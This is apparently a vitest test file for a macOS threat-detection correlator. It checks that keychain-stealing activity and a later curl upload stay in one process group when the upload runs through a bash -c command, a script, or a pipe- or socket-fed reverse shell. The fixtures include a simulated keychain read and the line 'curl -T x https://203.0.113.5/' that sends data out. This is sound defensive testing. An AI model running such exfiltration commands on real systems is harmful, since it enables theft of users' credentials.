/**
 * SPEC §4: a group root is an *interactive* shell under a terminal app. A shell that runs a command (`-c`) or a
 * script is not one, even with `-i`: a stealer under the user's zsh that reads the keychain and runs
 * `bash -ic 'curl …'` keeps its read and the upload in one group. Nor is a shell whose exec event shows a pipe or a socket on its standard input.
 */
import { describe, expect, it } from 'vitest';
import { correlate } from './correlate.js';
import { MiB, NOW, buildWorld } from './testing/world.js';

const TERM = { pid: 800, processStart: NOW - 7200, ppid: 1, path: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', signingId: 'com.apple.Terminal', platformBinary: true };
const LOGIN = { pid: 805, processStart: NOW - 7100, ppid: 800, path: '/usr/bin/login', args: ['login', '-pf', 'a'], tty: true };
const ZSH = { pid: 810, processStart: NOW - 7000, ppid: 805, path: '/bin/zsh', args: ['-zsh'], tty: true };
const PY = { pid: 820, processStart: NOW - 600, ppid: 810, path: '/usr/bin/python3', args: ['python3', 'steal.py'], tty: true };
const CURL = { pid: 840, processStart: NOW - 90, ppid: 830, path: '/usr/bin/curl', tty: true };
const READ = { pid: 820, ppid: 810, process_start: PY.processStart, path: PY.path, time: NOW - 300, file_path: '/Users/a/Library/Keychains/login.keychain-db', category: 'keychain', tier: 1 } as const;

/** Group roots of the AN0990 rows when curl runs under a bash started by the stealer with `bashArgs` (and `stdin`, as its exec event's fds give it). */
const an0990Roots = (bashArgs: string[], stdin?: 'pipe' | 'socket' | 'other') =>
  correlate(
    buildWorld({
      processes: [TERM, LOGIN, ZSH, PY, { pid: 830, processStart: NOW - 100, ppid: 820, path: '/bin/bash', args: bashArgs, tty: true, ...(stdin ? { stdin } : {}) }, CURL],
      sensitive: [READ],
      signing: [{ path: '/usr/bin/curl', cls: 'apple_platform', signingId: 'com.apple.curl' }],
      flows: [{ pid: 840, processStart: CURL.processStart, remote: '203.0.113.5', bytesOut: 15 * MiB, bytesIn: 8000, firstSeen: NOW - 60, lastSeen: NOW - 30 }],
    }),
  )
    .rows.filter((r) => r.analytic === 'AN0990')
    .map((r) => r.group_root_pid);

describe('a shell that runs a command is no group root', () => {
  it.each([[['bash', '-ic', 'curl -T x https://203.0.113.5/']], [['bash', '-i', '-c', 'curl …']], [['bash', '-c', 'curl …']], [['bash', '-i', '/tmp/.x.sh']]])('bash %j under the stealer: the upload stays in the zsh group, with its keychain read', (args) => {
    expect(an0990Roots(args)).toEqual([810]);
  });

  it('a bash the user starts by hand in the terminal (no command) starts a group of its own: the read is not its', () => {
    expect(an0990Roots(['bash'])).toEqual([]);
    expect(an0990Roots(['bash'], 'other')).toEqual([]);
  });

  it('a bare bash fed a script on a pipe, or a reverse shell on a socket (-i or not), is no group root', () => {
    expect(an0990Roots(['bash'], 'pipe')).toEqual([810]);
    expect(an0990Roots(['bash', '-i'], 'socket')).toEqual([810]);
  });
});
